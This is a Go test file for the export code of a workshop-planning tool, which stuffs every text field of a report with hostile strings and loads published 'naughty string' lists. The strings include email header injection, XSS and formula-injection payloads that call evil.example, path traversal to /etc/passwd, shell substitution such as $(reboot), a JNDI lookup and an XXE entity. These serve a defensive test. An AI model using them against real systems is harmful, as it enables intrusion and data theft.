package exports_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"serendip/exports"
	"serendip/model"
)

// smuggled are words that would be a header, a link, a script, a path, a formula or a command, if a file let them.
func smuggled() []string {
	return []string{
		"x\r\nBcc: eve@evil.example", "\r\n\r\n<b>a body</b>", "Bcc: eve@evil.example", "=?utf-8?q?=0D=0ABcc:_eve@evil.example?=", `"eve" <eve@evil.example>, bob@evil.example`,
		"x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO", "ATTACH:http://evil.example/x", `x\nATTENDEE:mailto:eve@evil.example`, "x;TZID=UTC:y", "ümläut; comma, colon: \\ \\n end",
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "[a](javascript:alert(1))", "<javascript:alert(1)>", "file:///etc/passwd", `\\evil.example\share\x`, "data:text/html,<script>1</script>", "vbscript:x",
		"../../../../etc/passwd", `..\..\windows\system32`, "/etc/passwd", `C:\CON`, "CON", "nul.txt", "COM1", "a\x00b", ".hidden", "-rf", "name.", "~/.ssh/authorized_keys", "a/b", "a:b",
		"$(reboot)", "`reboot`", "| reboot", "%n%s%d%!v", "100 %d", "{{.Title}}", "{first-name}", "{name", "${jndi:ldap://evil.example/x}", "_x000D_ and _x0041_", "_x005F_x0041_", "<![CDATA[x]]>", "]]>",
		"<?xml version=\"1.0\"?>", "&xxe; &#x1f600;", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07", "\x1b[2J\x1b[1;1Hgone", "\u009b31mred",
		"\u202egnp.exe", "</script><script>location='http://evil.example/ran'</script>", "<img src=http://evil.example/loaded onerror=location='http://evil.example/ran'>",
		"</style><link rel=stylesheet href=http://evil.example/loaded>", "\"><svg onload=location='http://evil.example/ran'>", "<meta http-equiv=refresh content='0;url=http://evil.example/ran'>",
		"<base href=http://evil.example/>", "--><iframe src=http://evil.example/loaded></iframe>", "</title><script>location='http://evil.example/ran'</script>", "</text><image href='http://evil.example/loaded'/>",
		"' onmouseover='location=1", "(app.alert\\(1\\)) Tj /JS", ")>> /URI (http://evil.example)", "endstream endobj", `=HYPERLINK("http://evil.example","click")`, `=WEBSERVICE("http://evil.example")`,
		`=cmd|' /C calc'!A0`, "\t=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "@SUM(1+1)", "+1+1", "-1+1", "＝1+1", "|=1", "'=1", "{=1}", "#REF!", "TRUE", "1e5", "00123", "2026-01-01", "12:30", "true", "null",
		"👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪", "漢字 العربية עברית ไทย", "a very long word: " + string(bytes.Repeat([]byte("long "), 30)),
	}
}

// collected are the strings that others have collected; a word is said where they are not at hand.
func collected(t testing.TB) []string {
	t.Helper()
	data := os.Getenv("SERENDIP_REAL_DATA")
	if data == "" {
		t.Log("SERENDIP_REAL_DATA is not set, so only our own hostile strings are tried")
		return nil
	}
	var out []string
	raw, err := os.ReadFile(filepath.Join(data, "naughty", "blns.json"))
	if err == nil {
		err = json.Unmarshal(raw, &out)
	}
	if err != nil {
		t.Fatal(err)
	}
	payloads, err := os.ReadFile(filepath.Join(data, "naughty", "csv_injection_payloads.txt"))
	if err != nil {
		t.Fatal(err)
	}
	for s := bufio.NewScanner(bytes.NewReader(payloads)); s.Scan(); {
		out = append(out, s.Text())
	}
	escapes, _ := filepath.Glob(filepath.Join(data, "naughty", "escapes", "*.in"))
	for _, name := range escapes {
		raw, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, string(raw))
	}
	if len(out) < 500 {
		t.Fatalf("only %d strings were collected", len(out))
	}
	return out
}

// said is hostile words as the cleaner lets them in: on a line, and as a note whose second line begins with them again.
type said struct{ Line, Note string }

// cleaned are raw words as they get in; what the cleaner refuses never does. Each stands there once.
func cleaned(raw ...[]string) []said {
	var out []said
	seen := make(map[string]bool)
	for _, words := range slices.Concat(raw...) {
		line, err := model.CleanLine(words)
		note, bad := model.CleanNote(words + "\n" + words)
		if err == nil && bad == nil && !seen[line.String()] {
			seen[line.String()] = true
			out = append(out, said{line.String(), note.String()})
		}
	}
	return out
}

// tame are harmless words in the same shape: what a file of them holds beside words, a file of hostile ones may hold too.
func tame(like []said) []said {
	out := make([]said, len(like))
	for i := range out {
		word := fmt.Sprintf("word%05d", i)
		out[i].Line = word
		rows := strings.Split(like[i].Note, "\n")
		left := strings.Count(like[i].Note, like[i].Line)
		for n := range rows {
			switch {
			case strings.TrimSpace(rows[n]) == "":
			case left > 0:
				rows[n], left = word, left-1
			default:
				rows[n] = "other"
			}
		}
		out[i].Note = strings.Join(rows, "\n")
	}
	return out
}

// unspoken is what stands in places for words that nobody can write into: the program chooses it from a list, or counts it.
func unspoken() map[string]string {
	return map[string]string{
		"Session.State": "closed", "Session.Zone": "Europe/Berlin", "Block.Method": "scoring", "Rule.Scheme": "groups", "ClaimHours.Status": "claimed", "Person.Status": "checked in", "UseCase.Kind": "serendipitous", "Entry.Kind": "planned",
		"UseCase.Stage": "selected", "UseCase.FirstDate": "2026-04-01", "UseCase.Claim": "claimed", "Verification.Status": "confirmed", "Kept.Verdict": "confirmed", "Kept.Wrong": "measure", "Page.Side": "business",
		"Page.Complex": "technology", "Page.Live": "2026-05-01", "Page.Until": "2026-08-01", "Page.Use": "daily", "Health.Answer": "yes", "Listed.List": "criterion", "Listed.Sort": "survey", "Listed.When": "2026-05-02",
		"Item.Kind": "action", "Item.Until": "2026-05-03", "Became.Fate": "passed on", "Vote.State": "closed", "Round.State": "revealed", "Round.Withheld": "", "Round.Sheet": "", "Group.Key": "importance",
		"Criterion.Key": "business", "Judged.Agreement": "high", "Result.Agreement": "high", "Weighed.Agreement": "high", "Weighed.Quadrant": "", "Survey.State": "counted", "Survey.Withheld": "", "Survey.Response": "1 of 2",
		"Surveyed.Key": "priority", "Surveyed.Text": "2.0", "Asking.Method": "ask", "Asking.State": "shown", "Question.Kind": "choice", "DotRound.State": "revealed", "DotRound.Withheld": "", "BoardTopic.Stage": "placed",
		"Speaker.Side": "customer", "RoomQuestion.State": "open", "Promise.Proposed": "confirmed", "Promise.Day": "2026-04-30", "Champion.Function": "sales", "LetterTold.Letter": "invitation", "LetterTold.Due": "2026-05-04", "Meetup.Spent": "1.00",
		"Meetup.Budget": "2.00", "Meetup.Head": "1.00", "Point.Key": "light", "Point.Answer": "yes", "CostLine.Amount": "1.00", "CostLine.Budget": "2.00", "Held.State": "closed", "Held.Zone": "Europe/Berlin",
		"Regular.At": "came", "Exact.Text": "2.0", "Value.Verified": "1 of 2", "Moved.Was": "", "Moved.Now": "", "Look.Colour": "#005a8c", "Look.Locale": "en", "Source.Head": "00", "Content.Without": "", "Hours.Formula": "15 min",
		"Value.Formula": "1 h", "Value.Money": "1 EUR", "Value.Currency": "EUR", "Health.Statement": "People use it", "Point.Ask": "Is there light?",
		"Answer.Question": "Do you do it?", "Page.Missing": "a team", "Page.Warnings": "it is late", "Asking.RedFlag": "few would come again", "Asking.Response": "9 of 18 people answered",
	}
}

// notes are the places for words that keep their lines.
func notes() []string {
	return []string{"Programme.Vision", "Block.Note", "UseCase.Summary", "Verification.Note", "Answer.Answer", "Page.Challenge", "Page.Outcome", "Page.Workflow", "Page.Factors", "Health.Note", "Override.Reason", "Field.Value", "Entry.Summary"}
}

// stuffing puts words into every place for words that a report has, found by its types: a new field takes part by itself.
type stuffing struct {
	all   []said
	k     int // of the words that are said now
	deep  int // in slices
	fixed map[string]string
	notes []string
}

// stuffed is a report in which words stand in every place for words: each of a list's things says the words of its number, and what
// there is once says the first.
func stuffed(all []said) exports.Report { return stuffedWith(all, nil) }

// stuffedWith says other words than the usual in some of the places that nobody can write into.
func stuffedWith(all []said, other map[string]string) exports.Report {
	r := exports.Report{}
	s := stuffing{all: all, fixed: unspoken(), notes: notes()}
	maps.Copy(s.fixed, other)
	s.put(reflect.ValueOf(&r.Content).Elem(), "Content")
	r.Source = exports.Source{Version: all[0].Line, Time: time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)}
	r.Look = exports.Look{Name: all[0].Line}
	for i, words := range all {
		r.Ballot.Cases = append(r.Ballot.Cases, exports.BallotCase{Number: i + 1, Title: words.Line})
		r.Paper = append(r.Paper, model.Question{Text: words.Line, Kind: model.AskChoice, Options: []string{words.Line, "b"}})
	}
	return s.arranged(r)
}

// arranged makes numbers point to each other, so that everything is told somewhere.
func (s *stuffing) arranged(r exports.Report) exports.Report {
	c := &r.Content
	c.Without, c.Session.StartAt = nil, time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
	kinds := []string{"decision", "action", "outcome", "for next time", "parked"}
	var items []exports.Item
	for i := range c.Items {
		for n, kind := range kinds {
			one := c.Items[i]
			one.ID, one.Kind, one.Withdrawn, one.Unseen = fmt.Sprintf("%025d%d", i+1, n), kind, false, false
			items = append(items, one)
		}
	}
	c.Items = items
	c.Recap.Selected, c.Recap.Shortlisted = nil, nil
	for i := range c.UseCases {
		u := &c.UseCases[i]
		u.Hidden, u.Held, u.Withdrawn, u.MergedInto, u.Selected = false, false, false, 0, true
		if i%2 == 1 {
			u.Kind = "planned"
		}
		entry := u.Page.Entries[0]
		for _, list := range []string{"task", "obstacle"} {
			entry.List = list
			u.Page.Entries = append(u.Page.Entries, entry)
		}
		c.Recap.Selected = append(c.Recap.Selected, u.Number)
		c.Recap.Shortlisted = append(c.Recap.Shortlisted, u.Number)
	}
	for i := range c.Rounds {
		if i%3 == 2 {
			c.Rounds[i].Sheet = model.WeightedSheet.Key()
		}
		group := c.Rounds[i].UseCases[0].Groups[0]
		c.Rounds[i].UseCases[0].Groups = nil
		for _, key := range []string{"importance", "measurability", "feasibility"} {
			group.Key = key
			c.Rounds[i].UseCases[0].Groups = append(c.Rounds[i].UseCases[0].Groups, group)
		}
	}
	for i := range c.Meetup.People { // somebody was or wasn't at each meetup
		c.Meetup.People[i].At = slices.Repeat([]string{"came"}, len(c.Meetup.Meetups))
	}
	return r
}

// put fills one place; path is "Type.Field".
func (s *stuffing) put(v reflect.Value, path string) {
	switch v.Kind() {
	case reflect.String:
		s.say(v, path)
	case reflect.Int, reflect.Int64:
		v.SetInt(int64(s.k + 1))
	case reflect.Float64:
		v.SetFloat(5)
	case reflect.Bool:
		v.SetBool(!slices.Contains([]string{"Listed.Removed", "Objective.Withdrawn", "Group.TooFew", "Group.Folded", "RoomQuestion.Nameless"}, path))
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		s.put(v.Elem(), path)
	case reflect.Array:
		for i := range v.Len() {
			s.put(v.Index(i), path)
		}
	case reflect.Slice:
		s.list(v, path)
	case reflect.Struct:
		s.parts(v)
	default:
	}
}

func (s *stuffing) say(v reflect.Value, path string) {
	words, fixed := s.fixed[path]
	_, field, _ := bytes.Cut([]byte(path), []byte("."))
	switch {
	case fixed:
	case string(field) == "ID":
		words = fmt.Sprintf("%026d", s.k+1)
	case slices.Contains(s.notes, path):
		words = s.all[s.k].Note
	default:
		words = s.all[s.k].Line
	}
	v.SetString(words)
}

// list has a thing for each of the words; lists within it have one, with the same words.
func (s *stuffing) list(v reflect.Value, path string) {
	n := 1
	if s.deep == 0 && v.Type().Elem().Kind() == reflect.Struct {
		n = len(s.all)
	}
	v.Set(reflect.MakeSlice(v.Type(), n, n))
	s.deep++
	was := s.k
	for i := range n {
		if n > 1 {
			s.k = i
		}
		s.put(v.Index(i), path)
	}
	s.k = was
	s.deep--
}

func (s *stuffing) parts(v reflect.Value) {
	switch v.Type() {
	case reflect.TypeFor[time.Time]():
		v.Set(reflect.ValueOf(time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)))
		return
	case reflect.TypeFor[exports.Exact]():
		v.Set(reflect.ValueOf(exports.Exact{Frac: model.NewFrac(2, 1), Text: "2.0"}))
		return
	}
	for i := range v.NumField() {
		if f := v.Type().Field(i); f.IsExported() {
			s.put(v.Field(i), v.Type().Name()+"."+f.Name)
		}
	}
}
